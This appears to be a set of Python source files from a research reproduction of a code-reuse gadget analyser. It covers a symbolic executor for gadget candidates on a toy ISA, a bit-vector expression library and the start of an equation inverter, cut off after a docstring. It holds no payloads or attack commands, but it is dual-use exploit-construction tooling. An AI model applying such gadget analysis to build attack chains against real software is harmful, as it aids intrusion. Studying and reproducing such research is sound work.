            state.flags = AbsFlags.from_sub(a, b, abs_sub(a, b))
            return
        if op in (Op.TEST_RR, Op.TEST_RI):
            a = regs[insn.dst]
            b = regs[insn.src] if op == Op.TEST_RR else Const(insn.imm)
            state.flags = AbsFlags.from_logic(abs_binop("and", a, b))
            return
        raise AssertionError(f"unhandled straightline op {op}")  # pragma: no cover
