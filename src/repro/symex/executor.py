"""Symbolic execution of gadget candidates.

:func:`execute_paths` runs a short code window symbolically from a
given address, forking at conditional direct jumps and *following*
direct jumps/calls (the paper's gadget-merging rule), until the path
ends at an indirect control transfer (``ret`` / ``jmp reg`` /
``jmp [mem]`` / ``call reg``), a ``syscall``, or a dead end.

Each completed path yields a :class:`PathSummary` carrying the final
symbolic state and the symbolic jump target — everything gadget-record
construction (Table II) needs.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import List, Optional

from ..isa.encoding import DecodeError, decode
from ..isa.instructions import Instruction, Op, OP_TABLE
from ..isa.registers import Reg
from .expr import (
    BV,
    BoolConst,
    bv_add,
    bv_and,
    bv_const,
    bv_mul,
    bv_neg,
    bv_not,
    bv_or,
    bv_sar,
    bv_shl,
    bv_shr,
    bv_sub,
    bv_udiv,
    bv_umod,
    bv_xor,
    bool_not,
)
from .state import FlagsState, SymState


class EndKind(enum.Enum):
    """How a symbolic path terminated."""

    RET = "ret"
    JMP_REG = "jmp_reg"
    JMP_MEM = "jmp_mem"
    CALL_REG = "call_reg"
    SYSCALL = "syscall"
    DEAD = "dead"  # decode failure, hlt, fork budget, length budget


@dataclass
class PathSummary:
    """One completed symbolic path through a gadget candidate."""

    start_addr: int
    insns: List[Instruction]
    state: SymState
    end: EndKind
    jump_target: Optional[BV] = None  # symbolic next rip (None for DEAD)
    merged_direct_jumps: int = 0  # how many direct jmp/call were followed
    conditional_jumps: int = 0  # how many Jcc were resolved on this path

    @property
    def length(self) -> int:
        return len(self.insns)

    @property
    def is_usable(self) -> bool:
        return self.end is not EndKind.DEAD


@dataclass
class _Pending:
    addr: int
    state: SymState
    insns: List[Instruction]
    merged: int
    conds: int


class SymbolicExecutor:
    """Executes code windows symbolically over a bytes+base view."""

    def __init__(
        self,
        code: bytes,
        base_addr: int,
        *,
        max_insns: int = 24,
        max_paths: int = 8,
        follow_calls: bool = True,
    ) -> None:
        self.code = code
        self.base_addr = base_addr
        self.max_insns = max_insns
        self.max_paths = max_paths
        self.follow_calls = follow_calls
        # Gadget windows overlap heavily (every suffix is probed too),
        # so memoize decoding per address.
        self._decode_cache: dict = {}
        #: Lifetime observability counters (read by extraction spans):
        #: symbolic instructions stepped and paths completed (any end).
        self.insns_executed = 0
        self.paths_completed = 0

    def preload_decode_cache(self, cache: dict) -> None:
        """Adopt an externally built addr → Instruction|None cache
        (e.g. from ``staticanalysis.DecodeGraph``) to avoid re-decoding."""
        self._decode_cache.update(cache)

    def _decode_at(self, addr: int) -> Optional[Instruction]:
        if addr in self._decode_cache:
            return self._decode_cache[addr]
        offset = addr - self.base_addr
        insn: Optional[Instruction] = None
        if 0 <= offset < len(self.code):
            try:
                insn = decode(self.code, offset, addr=addr)
            except DecodeError:
                insn = None
        self._decode_cache[addr] = insn
        return insn

    def execute_paths(self, start_addr: int) -> List[PathSummary]:
        """All completed paths starting at ``start_addr``."""
        summaries: List[PathSummary] = []
        work: List[_Pending] = [
            _Pending(addr=start_addr, state=SymState(), insns=[], merged=0, conds=0)
        ]
        while work and len(summaries) < self.max_paths:
            pending = work.pop()
            completed = self._run_path(pending, work)
            self.paths_completed += len(completed)
            summaries.extend(completed)
        return summaries

    def _run_path(self, pending: _Pending, work: List[_Pending]) -> List[PathSummary]:
        state = pending.state
        addr = pending.addr
        insns = pending.insns
        merged = pending.merged
        conds = pending.conds
        while len(insns) < self.max_insns:
            insn = self._decode_at(addr)
            if insn is None:
                return [self._dead(pending.addr if not insns else insns[0].addr, insns, state, merged, conds)]
            insns = insns + [insn]
            self.insns_executed += 1
            op = insn.op

            if op == Op.RET:
                target = state.load(state.get(Reg.RSP), 8)
                state.set(Reg.RSP, bv_add(state.get(Reg.RSP), bv_const(8)))
                return [self._done(insns, state, EndKind.RET, target, merged, conds)]
            if op == Op.JMP_R:
                return [self._done(insns, state, EndKind.JMP_REG, state.get(insn.dst), merged, conds)]
            if op == Op.JMP_M:
                addr_expr = bv_add(state.get(insn.base), bv_const(insn.disp))
                target = state.load(addr_expr, 8)
                return [self._done(insns, state, EndKind.JMP_MEM, target, merged, conds)]
            if op == Op.CALL_R:
                self._push(state, bv_const(insn.end))
                return [self._done(insns, state, EndKind.CALL_REG, state.get(insn.dst), merged, conds)]
            if op == Op.SYSCALL:
                return [self._done(insns, state, EndKind.SYSCALL, bv_const(insn.end), merged, conds)]
            if op == Op.HLT:
                return [self._dead(insns[0].addr, insns, state, merged, conds)]
            if op == Op.JMP_REL:
                merged += 1
                addr = insn.target
                continue
            if op == Op.CALL_REL:
                if not self.follow_calls:
                    return [self._dead(insns[0].addr, insns, state, merged, conds)]
                self._push(state, bv_const(insn.end))
                merged += 1
                addr = insn.target
                continue
            if insn.is_cond_jump():
                mnemonic = OP_TABLE[op].mnemonic
                condition = state.flags.condition(mnemonic)
                if isinstance(condition, BoolConst):
                    # Statically resolved (e.g. after xor reg, reg).
                    addr = insn.target if condition.value else insn.end
                    continue
                # Fork: taken branch goes onto the work list, fall
                # through continues here (arbitrary but deterministic).
                taken = state.clone()
                taken.add_constraint(condition)
                work.append(
                    _Pending(addr=insn.target, state=taken, insns=list(insns), merged=merged, conds=conds + 1)
                )
                state.add_constraint(bool_not(condition))
                conds += 1
                addr = insn.end
                continue

            self._execute_straightline(state, insn)
            addr = insn.end
        return [self._dead(insns[0].addr if insns else pending.addr, insns, state, merged, conds)]

    # -- helpers -------------------------------------------------------------

    @staticmethod
    def _push(state: SymState, value: BV) -> None:
        new_rsp = bv_sub(state.get(Reg.RSP), bv_const(8))
        state.set(Reg.RSP, new_rsp)
        state.store(new_rsp, value, 8)

    @staticmethod
    def _pop(state: SymState) -> BV:
        rsp = state.get(Reg.RSP)
        value = state.load(rsp, 8)
        state.set(Reg.RSP, bv_add(rsp, bv_const(8)))
        return value

    def _done(
        self,
        insns: List[Instruction],
        state: SymState,
        end: EndKind,
        target: BV,
        merged: int,
        conds: int,
    ) -> PathSummary:
        if state.rsp_offset() is None:
            state.stack_smashed = True
        return PathSummary(
            start_addr=insns[0].addr,
            insns=insns,
            state=state,
            end=end,
            jump_target=target,
            merged_direct_jumps=merged,
            conditional_jumps=conds,
        )

    @staticmethod
    def _dead(start: int, insns: List[Instruction], state: SymState, merged: int, conds: int) -> PathSummary:
        return PathSummary(
            start_addr=start,
            insns=insns,
            state=state,
            end=EndKind.DEAD,
            jump_target=None,
            merged_direct_jumps=merged,
            conditional_jumps=conds,
        )

    def _execute_straightline(self, state: SymState, insn: Instruction) -> None:
        op = insn.op
        if op == Op.NOP:
            return
        if op in (Op.MOV_RI, Op.MOV_RI32):
            state.set(insn.dst, bv_const(insn.imm))
            return
        if op == Op.MOV_RR:
            state.set(insn.dst, state.get(insn.src))
            return
        if op == Op.LOAD:
            addr = bv_add(state.get(insn.base), bv_const(insn.disp))
            state.set(insn.dst, state.load(addr, 8))
            return
        if op == Op.STORE:
            addr = bv_add(state.get(insn.base), bv_const(insn.disp))
            state.store(addr, state.get(insn.src), 8)
            return
        if op == Op.LOADB:
            addr = bv_add(state.get(insn.base), bv_const(insn.disp))
            state.set(insn.dst, state.load(addr, 1))
            return
        if op == Op.STOREB:
            addr = bv_add(state.get(insn.base), bv_const(insn.disp))
            state.store(addr, state.get(insn.src), 1)
            return
        if op == Op.LEA:
            state.set(insn.dst, bv_add(state.get(insn.base), bv_const(insn.disp)))
            return
        if op == Op.XCHG:
            a, b = state.get(insn.dst), state.get(insn.src)
            state.set(insn.dst, b)
            state.set(insn.src, a)
            return
        if op == Op.PUSH_R:
            self._push(state, state.get(insn.dst))
            return
        if op == Op.PUSH_I:
            self._push(state, bv_const(insn.imm))
            return
        if op in (Op.POP_R, Op.POP1):
            state.set(insn.dst, self._pop(state))
            return
        if op == Op.LEAVE:
            state.set(Reg.RSP, state.get(Reg.RBP))
            state.set(Reg.RBP, self._pop(state))
            return
        if op in (Op.ADD_RR, Op.ADD_RI):
            a = state.get(insn.dst)
            b = state.get(insn.src) if op == Op.ADD_RR else bv_const(insn.imm)
            result = bv_add(a, b)
            state.flags = FlagsState.from_add(a, b, result)
            state.set(insn.dst, result)
            return
        if op in (Op.SUB_RR, Op.SUB_RI):
            a = state.get(insn.dst)
            b = state.get(insn.src) if op == Op.SUB_RR else bv_const(insn.imm)
            result = bv_sub(a, b)
            state.flags = FlagsState.from_sub(a, b, result)
            state.set(insn.dst, result)
            return
        if op in (Op.AND_RR, Op.AND_RI, Op.OR_RR, Op.OR_RI, Op.XOR_RR, Op.XOR_RI):
            a = state.get(insn.dst)
            b = state.get(insn.src) if insn.src is not None else bv_const(insn.imm)
            if op in (Op.AND_RR, Op.AND_RI):
                result = bv_and(a, b)
            elif op in (Op.OR_RR, Op.OR_RI):
                result = bv_or(a, b)
            else:
                result = bv_xor(a, b)
            state.flags = FlagsState.from_logic(result)
            state.set(insn.dst, result)
            return
        if op in (Op.SHL_RI, Op.SHR_RI, Op.SAR_RI):
            a = state.get(insn.dst)
            count = insn.imm & 0x3F
            if op == Op.SHL_RI:
                result = bv_shl(a, count)
            elif op == Op.SHR_RI:
                result = bv_shr(a, count)
            else:
                result = bv_sar(a, count)
            state.flags = FlagsState.from_logic(result)
            state.set(insn.dst, result)
            return
        if op == Op.MUL_RR:
            result = bv_mul(state.get(insn.dst), state.get(insn.src))
            state.flags = FlagsState.from_logic(result)
            state.set(insn.dst, result)
            return
        if op == Op.NOT_R:
            state.set(insn.dst, bv_not(state.get(insn.dst)))
            return
        if op == Op.NEG_R:
            result = bv_neg(state.get(insn.dst))
            state.flags = FlagsState.from_logic(result)
            state.set(insn.dst, result)
            return
        if op == Op.INC_R:
            a = state.get(insn.dst)
            result = bv_add(a, bv_const(1))
            old_cf = state.flags.cf
            state.flags = FlagsState.from_add(a, bv_const(1), result)
            state.flags.cf = old_cf  # INC preserves CF, as on x86
            state.flags.cf_patched = True
            state.set(insn.dst, result)
            return
        if op == Op.DEC_R:
            a = state.get(insn.dst)
            result = bv_sub(a, bv_const(1))
            old_cf = state.flags.cf
            state.flags = FlagsState.from_sub(a, bv_const(1), result)
            state.flags.cf = old_cf
            state.flags.cf_patched = True
            state.set(insn.dst, result)
            return
        if op in (Op.UDIV_RR, Op.UMOD_RR):
            a, b = state.get(insn.dst), state.get(insn.src)
            state.set(insn.dst, bv_udiv(a, b) if op == Op.UDIV_RR else bv_umod(a, b))
            return
        if op in (Op.CMP_RR, Op.CMP_RI):
            a = state.get(insn.dst)
            b = state.get(insn.src) if op == Op.CMP_RR else bv_const(insn.imm)
            state.flags = FlagsState.from_sub(a, b, bv_sub(a, b))
            return
        if op in (Op.TEST_RR, Op.TEST_RI):
            a = state.get(insn.dst)
            b = state.get(insn.src) if op == Op.TEST_RR else bv_const(insn.imm)
            state.flags = FlagsState.from_logic(bv_and(a, b))
            return
        raise AssertionError(f"unhandled straightline op {op}")  # pragma: no cover


def execute_paths(
    code: bytes,
    base_addr: int,
    start_addr: int,
    *,
    max_insns: int = 24,
    max_paths: int = 8,
) -> List[PathSummary]:
    """Convenience wrapper over :class:`SymbolicExecutor`."""
    executor = SymbolicExecutor(code, base_addr, max_insns=max_insns, max_paths=max_paths)
    return executor.execute_paths(start_addr)
