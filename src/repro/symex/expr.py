"""Bit-vector and boolean expression language for symbolic execution.

This is the claripy stand-in.  Expressions are immutable trees over
64-bit bit-vectors with aggressive constant folding and light algebraic
simplification applied by the smart constructors (``bv_add`` and
friends).  Everything downstream — gadget pre/post-conditions,
subsumption queries, plan constraints — is phrased in this language and
discharged either syntactically, by random evaluation, or by the
bit-blasting solver in :mod:`repro.solver`.

Design notes:

* All bit-vectors are 64 bits wide.  Sub-word operations (byte loads)
  are expressed with masks, which keeps the bit-blaster simple.
* Shift amounts are constants (the ISA only has immediate shifts), so
  no barrel shifter is needed.
* Booleans are a separate sort (comparisons and connectives), as in
  SMT-LIB's QF_BV.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, FrozenSet, Iterator, Tuple, Union

MASK64 = (1 << 64) - 1


def _signed(v: int) -> int:
    v &= MASK64
    return v - (1 << 64) if v >> 63 else v


# ---------------------------------------------------------------------------
# Sorts
# ---------------------------------------------------------------------------


class BVBinOp(enum.Enum):
    ADD = "add"
    SUB = "sub"
    MUL = "mul"
    UDIV = "udiv"
    UMOD = "umod"
    AND = "and"
    OR = "or"
    XOR = "xor"
    SHL = "shl"  # rhs always a constant
    SHR = "shr"
    SAR = "sar"


class BVUnOp(enum.Enum):
    NOT = "not"
    NEG = "neg"


class CmpOp(enum.Enum):
    EQ = "=="
    NE = "!="
    ULT = "u<"
    ULE = "u<="
    SLT = "s<"
    SLE = "s<="


class BoolConn(enum.Enum):
    AND = "and"
    OR = "or"
    NOT = "not"


@dataclass(frozen=True)
class BV:
    """Base class for bit-vector expressions."""

    def __add__(self, other: "BVLike") -> "BV":
        return bv_add(self, to_bv(other))

    def __sub__(self, other: "BVLike") -> "BV":
        return bv_sub(self, to_bv(other))

    def __xor__(self, other: "BVLike") -> "BV":
        return bv_xor(self, to_bv(other))

    def __and__(self, other: "BVLike") -> "BV":
        return bv_and(self, to_bv(other))

    def __or__(self, other: "BVLike") -> "BV":
        return bv_or(self, to_bv(other))


@dataclass(frozen=True)
class BVConst(BV):
    value: int

    def __post_init__(self):
        object.__setattr__(self, "value", self.value & MASK64)

    def __str__(self) -> str:
        return f"{self.value:#x}" if self.value > 9 else str(self.value)


@dataclass(frozen=True)
class BVSym(BV):
    """A free 64-bit variable (an initial register, a stack slot, ...)."""

    name: str

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True)
class BVBin(BV):
    op: BVBinOp
    lhs: BV
    rhs: BV

    def __str__(self) -> str:
        return f"({self.lhs} {self.op.value} {self.rhs})"


@dataclass(frozen=True)
class BVUn(BV):
    op: BVUnOp
    arg: BV

    def __str__(self) -> str:
        return f"({self.op.value} {self.arg})"


@dataclass(frozen=True)
class BVIte(BV):
    cond: "Bool"
    then: BV
    other: BV

    def __str__(self) -> str:
        return f"ite({self.cond}, {self.then}, {self.other})"


@dataclass(frozen=True)
class Bool:
    """Base class for boolean expressions."""

    def __invert__(self) -> "Bool":
        return bool_not(self)


@dataclass(frozen=True)
class BoolConst(Bool):
    value: bool

    def __str__(self) -> str:
        return "true" if self.value else "false"


@dataclass(frozen=True)
class Cmp(Bool):
    op: CmpOp
    lhs: BV
    rhs: BV

    def __str__(self) -> str:
        return f"({self.lhs} {self.op.value} {self.rhs})"


@dataclass(frozen=True)
class BoolExpr(Bool):
    conn: BoolConn
    args: Tuple[Bool, ...]

    def __str__(self) -> str:
        if self.conn is BoolConn.NOT:
            return f"(not {self.args[0]})"
        joiner = f" {self.conn.value} "
        return "(" + joiner.join(str(a) for a in self.args) + ")"


TRUE = BoolConst(True)
FALSE = BoolConst(False)

BVLike = Union[BV, int]


def to_bv(value: BVLike) -> BV:
    if isinstance(value, BV):
        return value
    return BVConst(value)


def bv_const(value: int) -> BVConst:
    return BVConst(value)


def bv_sym(name: str) -> BVSym:
    return BVSym(name)


# ---------------------------------------------------------------------------
# Smart constructors with folding
# ---------------------------------------------------------------------------

_ZERO = BVConst(0)
_ONES = BVConst(MASK64)


def _const_fold(op: BVBinOp, a: int, b: int) -> int:
    if op is BVBinOp.ADD:
        return a + b
    if op is BVBinOp.SUB:
        return a - b
    if op is BVBinOp.MUL:
        return a * b
    if op is BVBinOp.UDIV:
        return a // b if b else 0
    if op is BVBinOp.UMOD:
        return a % b if b else a
    if op is BVBinOp.AND:
        return a & b
    if op is BVBinOp.OR:
        return a | b
    if op is BVBinOp.XOR:
        return a ^ b
    if op is BVBinOp.SHL:
        return a << (b & 0x3F)
    if op is BVBinOp.SHR:
        return (a & MASK64) >> (b & 0x3F)
    if op is BVBinOp.SAR:
        return _signed(a) >> (b & 0x3F)
    raise AssertionError(op)  # pragma: no cover


def bv_add(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value + b.value)
    if isinstance(a, BVConst) and a.value == 0:
        return b
    if isinstance(b, BVConst) and b.value == 0:
        return a
    # (x + c1) + c2 → x + (c1+c2): keeps stack-pointer arithmetic flat.
    if isinstance(b, BVConst) and isinstance(a, BVBin) and a.op is BVBinOp.ADD and isinstance(a.rhs, BVConst):
        return bv_add(a.lhs, BVConst(a.rhs.value + b.value))
    if isinstance(b, BVConst) and isinstance(a, BVBin) and a.op is BVBinOp.SUB and isinstance(a.rhs, BVConst):
        return bv_add(a.lhs, BVConst(b.value - a.rhs.value))
    if isinstance(a, BVConst):
        return bv_add(b, a)  # canonical: constant on the right
    return BVBin(BVBinOp.ADD, a, b)


def bv_sub(a: BV, b: BV) -> BV:
    if isinstance(b, BVConst):
        return bv_add(a, BVConst(-b.value))
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value - b.value)
    if a == b:
        return _ZERO
    return BVBin(BVBinOp.SUB, a, b)


def bv_mul(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value * b.value)
    for x, y in ((a, b), (b, a)):
        if isinstance(x, BVConst):
            if x.value == 0:
                return _ZERO
            if x.value == 1:
                return y
    return BVBin(BVBinOp.MUL, a, b)


def bv_udiv(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst) and b.value:
        return BVConst(a.value // b.value)
    if isinstance(b, BVConst) and b.value == 1:
        return a
    # Power-of-two divisor → logical shift; keeps opaque-predicate
    # constraints out of the expensive division encoding.
    if isinstance(b, BVConst) and b.value and b.value & (b.value - 1) == 0:
        return bv_shr(a, b.value.bit_length() - 1)
    return BVBin(BVBinOp.UDIV, a, b)


def bv_umod(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst) and b.value:
        return BVConst(a.value % b.value)
    if isinstance(b, BVConst) and b.value and b.value & (b.value - 1) == 0:
        return bv_and(a, BVConst(b.value - 1))
    return BVBin(BVBinOp.UMOD, a, b)


def bv_and(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value & b.value)
    for x, y in ((a, b), (b, a)):
        if isinstance(x, BVConst):
            if x.value == 0:
                return _ZERO
            if x.value == MASK64:
                return y
    if a == b:
        return a
    return BVBin(BVBinOp.AND, a, b)


def bv_or(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value | b.value)
    for x, y in ((a, b), (b, a)):
        if isinstance(x, BVConst):
            if x.value == 0:
                return y
            if x.value == MASK64:
                return _ONES
    if a == b:
        return a
    return BVBin(BVBinOp.OR, a, b)


def bv_xor(a: BV, b: BV) -> BV:
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BVConst(a.value ^ b.value)
    for x, y in ((a, b), (b, a)):
        if isinstance(x, BVConst) and x.value == 0:
            return y
    if a == b:
        return _ZERO
    return BVBin(BVBinOp.XOR, a, b)


def bv_shl(a: BV, amount: int) -> BV:
    amount &= 0x3F
    if amount == 0:
        return a
    if isinstance(a, BVConst):
        return BVConst(a.value << amount)
    return BVBin(BVBinOp.SHL, a, BVConst(amount))


def bv_shr(a: BV, amount: int) -> BV:
    amount &= 0x3F
    if amount == 0:
        return a
    if isinstance(a, BVConst):
        return BVConst(a.value >> amount)
    return BVBin(BVBinOp.SHR, a, BVConst(amount))


def bv_sar(a: BV, amount: int) -> BV:
    amount &= 0x3F
    if amount == 0:
        return a
    if isinstance(a, BVConst):
        return BVConst(_signed(a.value) >> amount)
    return BVBin(BVBinOp.SAR, a, BVConst(amount))


def bv_not(a: BV) -> BV:
    if isinstance(a, BVConst):
        return BVConst(~a.value)
    if isinstance(a, BVUn) and a.op is BVUnOp.NOT:
        return a.arg
    return BVUn(BVUnOp.NOT, a)


def bv_neg(a: BV) -> BV:
    if isinstance(a, BVConst):
        return BVConst(-a.value)
    if isinstance(a, BVUn) and a.op is BVUnOp.NEG:
        return a.arg
    return BVUn(BVUnOp.NEG, a)


def bv_ite(cond: Bool, then: BV, other: BV) -> BV:
    if isinstance(cond, BoolConst):
        return then if cond.value else other
    if then == other:
        return then
    return BVIte(cond, then, other)


# ---------------------------------------------------------------------------
# Boolean constructors
# ---------------------------------------------------------------------------


def _cmp_fold(op: CmpOp, a: int, b: int) -> bool:
    if op is CmpOp.EQ:
        return a == b
    if op is CmpOp.NE:
        return a != b
    if op is CmpOp.ULT:
        return a < b
    if op is CmpOp.ULE:
        return a <= b
    if op is CmpOp.SLT:
        return _signed(a) < _signed(b)
    if op is CmpOp.SLE:
        return _signed(a) <= _signed(b)
    raise AssertionError(op)  # pragma: no cover


def cmp(op: CmpOp, a: BVLike, b: BVLike) -> Bool:
    a, b = to_bv(a), to_bv(b)
    if isinstance(a, BVConst) and isinstance(b, BVConst):
        return BoolConst(_cmp_fold(op, a.value, b.value))
    if a == b:
        if op in (CmpOp.EQ, CmpOp.ULE, CmpOp.SLE):
            return TRUE
        if op in (CmpOp.NE, CmpOp.ULT, CmpOp.SLT):
            return FALSE
    return Cmp(op, a, b)


def bv_eq(a: BVLike, b: BVLike) -> Bool:
    return cmp(CmpOp.EQ, a, b)


def bv_ne(a: BVLike, b: BVLike) -> Bool:
    return cmp(CmpOp.NE, a, b)


def bool_and(*args: Bool) -> Bool:
    flat = []
    for arg in args:
        if isinstance(arg, BoolConst):
            if not arg.value:
                return FALSE
            continue
        if isinstance(arg, BoolExpr) and arg.conn is BoolConn.AND:
            flat.extend(arg.args)
        else:
            flat.append(arg)
    unique = tuple(dict.fromkeys(flat))
    if not unique:
        return TRUE
    if len(unique) == 1:
        return unique[0]
    return BoolExpr(BoolConn.AND, unique)


def bool_or(*args: Bool) -> Bool:
    flat = []
    for arg in args:
        if isinstance(arg, BoolConst):
            if arg.value:
                return TRUE
            continue
        if isinstance(arg, BoolExpr) and arg.conn is BoolConn.OR:
            flat.extend(arg.args)
        else:
            flat.append(arg)
    unique = tuple(dict.fromkeys(flat))
    if not unique:
        return FALSE
    if len(unique) == 1:
        return unique[0]
    return BoolExpr(BoolConn.OR, unique)


def bool_not(arg: Bool) -> Bool:
    if isinstance(arg, BoolConst):
        return BoolConst(not arg.value)
    if isinstance(arg, BoolExpr) and arg.conn is BoolConn.NOT:
        return arg.args[0]
    _NEGATED = {
        CmpOp.EQ: CmpOp.NE,
        CmpOp.NE: CmpOp.EQ,
        CmpOp.ULT: None,
        CmpOp.ULE: None,
        CmpOp.SLT: None,
        CmpOp.SLE: None,
    }
    if isinstance(arg, Cmp):
        if arg.op is CmpOp.EQ:
            return Cmp(CmpOp.NE, arg.lhs, arg.rhs)
        if arg.op is CmpOp.NE:
            return Cmp(CmpOp.EQ, arg.lhs, arg.rhs)
        if arg.op is CmpOp.ULT:
            return Cmp(CmpOp.ULE, arg.rhs, arg.lhs)
        if arg.op is CmpOp.ULE:
            return Cmp(CmpOp.ULT, arg.rhs, arg.lhs)
        if arg.op is CmpOp.SLT:
            return Cmp(CmpOp.SLE, arg.rhs, arg.lhs)
        if arg.op is CmpOp.SLE:
            return Cmp(CmpOp.SLT, arg.rhs, arg.lhs)
    return BoolExpr(BoolConn.NOT, (arg,))


AnyExpr = Union[BV, Bool]


# ---------------------------------------------------------------------------
# Traversal, substitution, evaluation
# ---------------------------------------------------------------------------


def iter_subexprs(expr: AnyExpr) -> Iterator[AnyExpr]:
    """Pre-order traversal over an expression tree."""
    stack = [expr]
    while stack:
        node = stack.pop()
        yield node
        if isinstance(node, BVBin):
            stack += [node.lhs, node.rhs]
        elif isinstance(node, BVUn):
            stack.append(node.arg)
        elif isinstance(node, BVIte):
            stack += [node.cond, node.then, node.other]
        elif isinstance(node, Cmp):
            stack += [node.lhs, node.rhs]
        elif isinstance(node, BoolExpr):
            stack.extend(node.args)


def free_symbols(expr: AnyExpr) -> FrozenSet[str]:
    """The names of all free bit-vector variables in ``expr``."""
    return frozenset(n.name for n in iter_subexprs(expr) if isinstance(n, BVSym))


def expr_size(expr: AnyExpr) -> int:
    """Node count; used by the planner's "fewer constraints" heuristic."""
    return sum(1 for _ in iter_subexprs(expr))


def substitute(expr: AnyExpr, bindings: Dict[str, BV]) -> AnyExpr:
    """Replace free variables by expressions; re-runs the smart constructors."""
    if isinstance(expr, BVSym):
        return bindings.get(expr.name, expr)
    if isinstance(expr, (BVConst, BoolConst)):
        return expr
    if isinstance(expr, BVBin):
        lhs = substitute(expr.lhs, bindings)
        rhs = substitute(expr.rhs, bindings)
        return _REBUILD_BIN[expr.op](lhs, rhs)
    if isinstance(expr, BVUn):
        arg = substitute(expr.arg, bindings)
        return bv_not(arg) if expr.op is BVUnOp.NOT else bv_neg(arg)
    if isinstance(expr, BVIte):
        return bv_ite(
            substitute(expr.cond, bindings),
            substitute(expr.then, bindings),
            substitute(expr.other, bindings),
        )
    if isinstance(expr, Cmp):
        return cmp(expr.op, substitute(expr.lhs, bindings), substitute(expr.rhs, bindings))
    if isinstance(expr, BoolExpr):
        args = tuple(substitute(a, bindings) for a in expr.args)
        if expr.conn is BoolConn.AND:
            return bool_and(*args)
        if expr.conn is BoolConn.OR:
            return bool_or(*args)
        return bool_not(args[0])
    raise TypeError(f"not an expression: {expr!r}")


_REBUILD_BIN = {
    BVBinOp.ADD: bv_add,
    BVBinOp.SUB: bv_sub,
    BVBinOp.MUL: bv_mul,
    BVBinOp.UDIV: bv_udiv,
    BVBinOp.UMOD: bv_umod,
    BVBinOp.AND: bv_and,
    BVBinOp.OR: bv_or,
    BVBinOp.XOR: bv_xor,
    BVBinOp.SHL: lambda a, b: bv_shl(a, b.value) if isinstance(b, BVConst) else BVBin(BVBinOp.SHL, a, b),
    BVBinOp.SHR: lambda a, b: bv_shr(a, b.value) if isinstance(b, BVConst) else BVBin(BVBinOp.SHR, a, b),
    BVBinOp.SAR: lambda a, b: bv_sar(a, b.value) if isinstance(b, BVConst) else BVBin(BVBinOp.SAR, a, b),
}


class EvalError(KeyError):
    """A free variable had no value in the environment."""


def eval_bv(expr: BV, env: Dict[str, int]) -> int:
    """Concretely evaluate a bit-vector expression under ``env``."""
    if isinstance(expr, BVConst):
        return expr.value
    if isinstance(expr, BVSym):
        try:
            return env[expr.name] & MASK64
        except KeyError:
            raise EvalError(expr.name) from None
    if isinstance(expr, BVBin):
        return _const_fold(expr.op, eval_bv(expr.lhs, env), eval_bv(expr.rhs, env)) & MASK64
    if isinstance(expr, BVUn):
        arg = eval_bv(expr.arg, env)
        return (~arg if expr.op is BVUnOp.NOT else -arg) & MASK64
    if isinstance(expr, BVIte):
        return eval_bv(expr.then, env) if eval_bool(expr.cond, env) else eval_bv(expr.other, env)
    raise TypeError(f"not a bit-vector expression: {expr!r}")


def eval_bool(expr: Bool, env: Dict[str, int]) -> bool:
    """Concretely evaluate a boolean expression under ``env``."""
    if isinstance(expr, BoolConst):
        return expr.value
    if isinstance(expr, Cmp):
        return _cmp_fold(expr.op, eval_bv(expr.lhs, env), eval_bv(expr.rhs, env))
    if isinstance(expr, BoolExpr):
        if expr.conn is BoolConn.AND:
            return all(eval_bool(a, env) for a in expr.args)
        if expr.conn is BoolConn.OR:
            return any(eval_bool(a, env) for a in expr.args)
        return not eval_bool(expr.args[0], env)
    raise TypeError(f"not a boolean expression: {expr!r}")
