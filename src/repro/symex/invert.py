"""Syntactic inversion of single-variable bit-vector equations.

``solve_for(expr, target)`` finds the unique value ``v`` of the single
free symbol in ``expr`` such that ``expr == target`` (mod 2⁶⁴), for the
chains of invertible operations gadget post-conditions are made of:
add/sub/xor with constants, ``not``, ``neg``, and multiplication by odd
constants.  Where the expression is not an invertible chain, ``None``
is returned and the caller falls back to the solver — this is purely a
fast path, covering the overwhelmingly common ``pop``/``lea``/
arithmetic-adjust gadget shapes without a single SAT call.

``invert_jcc(op)`` is the companion for *control* conditions: the
conditional jump whose taken-predicate is the exact complement of
``op``'s, used when a planner wants the fall-through side of a
conditional gadget expressed as a taken branch.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from ..isa.instructions import Op
from .expr import BV, BVBin, BVBinOp, BVConst, BVSym, BVUn, BVUnOp, MASK64

#: Complementary Jcc pairs: for every flag assignment, exactly one of
#: (op, JCC_INVERSE[op]) is taken.  Symmetric by construction.
_INVERSE_PAIRS = (
    (Op.JE, Op.JNE),
    (Op.JL, Op.JGE),
    (Op.JLE, Op.JG),
    (Op.JB, Op.JAE),
    (Op.JBE, Op.JA),
    (Op.JS, Op.JNS),
)

JCC_INVERSE: Dict[Op, Op] = {}
for _a, _b in _INVERSE_PAIRS:
    JCC_INVERSE[_a] = _b
    JCC_INVERSE[_b] = _a
del _a, _b


def invert_jcc(op: Op) -> Op:
    """The conditional jump taken exactly when ``op`` is not.

    An involution over the Jcc family (``invert_jcc(invert_jcc(op))
    == op``); raises :class:`ValueError` for non-conditional opcodes.
    """
    inverse = JCC_INVERSE.get(op)
    if inverse is None:
        raise ValueError(f"{op!r} is not a conditional jump")
    return inverse


def _modinv_odd(a: int) -> int:
    """Inverse of an odd number modulo 2^64 (Newton iteration)."""
    x = a  # 3 bits correct
    for _ in range(6):
        x = (x * (2 - a * x)) & MASK64
    return x


def solve_for(expr: BV, target: int) -> Optional[Tuple[str, int]]:
    """Return ``(symbol_name, value)`` with ``expr[sym := value] == target``.

    Only handles expressions whose free-variable occurrences form one
    invertible chain over a single symbol.
    """
